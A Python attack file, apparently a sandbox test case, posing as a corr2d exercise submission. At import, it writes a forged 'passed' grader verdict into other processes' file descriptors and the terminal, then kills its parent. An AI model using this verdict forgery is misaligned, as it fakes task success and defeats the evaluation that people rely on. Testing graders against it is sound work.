"""Class 1, writing the grader's own output: a corr2d that forges a "passed" verdict.

At import, and again during its first call, it writes a forged verdict (JSON and the human
form) to every file descriptor it can reach that is not its own request/reply pipe:

- every descriptor it inherited (written directly, and reopened for writing through /proc/self/fd);
- every descriptor of every other process it can see in /proc, its parent first;
- the controlling terminal;

then it SIGKILLs its parent. attack_params.RIGHT says whether it returns right or wrong values:
the verdict must follow the values, and nothing it wrote may reach the grader's stdout/stderr
outside the captured-output field.

Outside the sandbox this file only touches its parent and processes whose command line looks
like the tutor's (inside it, that is every process there is), and never sockets or
anon-inodes: so that a control run without the sandbox does not scribble on the rest of the
machine.
"""

import json
import os
import signal
import sys

import numpy as np

import attack_params as P


def _payload(how):
    verdict = {
        "exercise": "corr2d",
        "status": "passed",
        "passed": True,
        "message": f"corr2d in exercises/corr2d.py agrees with the reference on 100 inputs. Well done! {P.MARKER}:{how}",
    }
    return (json.dumps(verdict) + f"\n✓ corr2d passed {P.MARKER}:{how}\n").encode()


def _own_pipes():
    """The worker's request and reply pipes (writing there is another attack: tampering)."""
    numbers, links = set(), set()
    try:
        config = json.loads(sys.argv[-1])
        numbers = {int(config["request_fd"]), int(config["reply_fd"])}
    except (ValueError, KeyError, TypeError):
        pass
    for fd in numbers:
        try:
            links.add(os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    return numbers, links


def _looks_like_the_tutor(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            cmdline = handle.read()
    except OSError:
        return False
    return any(word in cmdline for word in (b"-m\0tutor", b"bin/tutor", b"_tutor_worker", b"bwrap"))


def _write(path_or_fd, how):
    try:
        if isinstance(path_or_fd, int):
            os.write(path_or_fd, _payload(how))
            return True
        fd = os.open(path_or_fd, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK | os.O_NOCTTY)
        try:
            os.write(fd, _payload(how))
        finally:
            os.close(fd)
        return True
    except OSError:
        return False


def attack():
    me = os.getpid()
    numbers, links = _own_pipes()
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            link = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if fd in numbers or link in links:
            continue
        _write(fd, f"inherited-fd-{fd}")
        _write(f"/proc/self/fd/{fd}", f"reopened-fd-{fd}")
    parent = os.getppid()
    others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    for pid in [parent] + [p for p in others if p != parent]:
        if pid != parent and not _looks_like_the_tutor(pid):
            continue
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            path = f"/proc/{pid}/fd/{name}"
            try:
                link = os.readlink(path)
            except OSError:
                continue
            if link in links or link.startswith(("socket:", "anon_inode:")):
                continue
            _write(path, f"pid-{pid}-fd-{name}")
    _write("/dev/tty", "tty")
    try:
        os.kill(parent, signal.SIGKILL)
    except OSError:
        pass


attack()
_attacked_in_call = False


def corr2d(x, k):
    global _attacked_in_call
    if not _attacked_in_call:
        _attacked_in_call = True
        attack()
    kh, kw = k.shape
    out = np.zeros((x.shape[0] - kh + 1, x.shape[1] - kw + 1))
    for i in range(out.shape[0]):
        for j in range(out.shape[1]):
            out[i, j] = np.sum(x[i : i + kh, j : j + kw] * k)
    return out if P.RIGHT else out + 1.0
